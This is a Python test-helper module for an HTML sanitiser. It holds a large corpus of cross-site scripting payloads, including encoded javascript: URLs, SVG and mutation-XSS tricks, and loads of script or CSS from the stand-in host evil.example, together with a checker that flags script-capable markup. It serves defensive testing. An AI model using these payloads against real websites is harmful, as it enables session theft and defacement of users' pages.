"""The XSS corpus, shared by every test of HTML that staff or members write.

``XSS_VECTORS``: dozens of payloads — script elements, event handlers, ``javascript:``
and ``data:`` URLs (plain, mixed case, entity- and whitespace-encoded), SVG and MathML,
CSS expressions, forms, meta refresh, comment and mutation-XSS (mXSS) tricks.

``executable_content(html)`` parses HTML as a browser would tokenise it (entities
decoded) and lists everything that could run script: a forbidden element, an ``on…``
handler, a URL attribute with a scheme other than http(s)/mailto/tel, a ``style``
attribute, ``srcdoc``. Escaped text (``&lt;script&gt;``) is text, not content: it passes.

``segment(html, begin, end)`` cuts out the part of a page between two text markers, so
a page's own (nonced) scripts are not mistaken for the payload.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

XSS_VECTORS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "<template><script>alert(1)</script></template>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=/media/news/body/a.png onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p onmouseover="alert(1)">悬停</p>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
    '<a href="/news/" onmouseover=alert(1)>站内</a>',
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<div/onclick="alert(1)">x</div>',
    "<p\nonclick=alert(1)>换行</p>",
    # javascript: and other schemes
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="jar:javascript:alert(1)">x</a>',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="https://ok.example" ping="https://evil.example/track">x</a>',
    # data: URIs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    # SVG and MathML
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<a href="//evil.example/%0aalert(1)" xlink:href="javascript:alert(1)">x</a>',
    # frames, objects, forms, document-level elements
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<div style="-moz-binding:url(//evil.example/x.xml#xss)">x</div>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    # comments, entities and mutation XSS
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
    "</mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<img src="x" alt="&quot;><script>alert(1)</script>">',
    '<p title="&lt;img src=x onerror=alert(1)&gt;">实体</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
]

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link",
    "meta", "base", "form", "input", "button", "textarea", "select", "svg", "math", "template",
    "noscript", "xmp", "plaintext", "isindex", "marquee", "body", "html", "head", "title",
    "video", "audio", "source", "animate", "set", "use", "image", "details",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "background", "poster", "data",
    "lowsrc", "dynsrc", "ping", "codebase", "cite", "longdesc", "usemap", "manifest", "values",
}  # fmt: skip
SAFE_SCHEMES = ("http", "https", "mailto", "tel")
# What browsers strip from a URL before reading its scheme: controls, spaces, tabs, newlines.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f`'\"]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


# Raster images as data: URLs never run script (the CSP allows them for images).
_RASTER_DATA = re.compile(r"^data:image/(png|jpeg|gif|webp);")


def _unsafe_url(value: str, *, tag: str = "") -> bool:
    cleaned = _URL_NOISE.sub("", value).lower()
    if tag == "img" and _RASTER_DATA.match(cleaned):
        return False
    match = _SCHEME.match(cleaned)
    return bool(match) and match.group(1) not in SAFE_SCHEMES


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag}[{name}]")
            elif name in URL_ATTRIBUTES and _unsafe_url(value, tag=tag):
                self.found.append(f"{tag}[{name}={value[:40]}]")
            elif name == "srcset" and any(
                _unsafe_url(part.strip().split(" ")[0]) for part in value.split(",")
            ):
                self.found.append(f"{tag}[srcset]")

    handle_startendtag = handle_starttag


def executable_content(html: str) -> list[str]:
    """What in ``html`` could run script (empty when it is inert)."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


def segment(html: str, begin: str, end: str, *, within: str = "<main") -> str:
    """The user's part of a page: from the marker ``begin`` (its first occurrence after
    ``within``, so a copy in the ``<head>``'s meta description is skipped) to ``end`` —
    or, when the sanitiser dropped everything after a payload, to the end of the
    rich-text container (the first ``</div>``)."""
    start = html.index(begin, html.index(within) if within in html else 0)
    stop = html.find(end, start)
    if stop == -1:  # the rest of the rich-text container
        stop = html.index("</div>", start)
    return html[start:stop]


def raw_vectors_in(html: str) -> list[str]:
    """Corpus vectors that appear in ``html`` verbatim, i.e. unescaped (attributes and
    the ``<head>`` included): none may, wherever the text ends up on the page."""
    return [v for v in XSS_VECTORS if "<" in v and executable_content(v) and v in html]
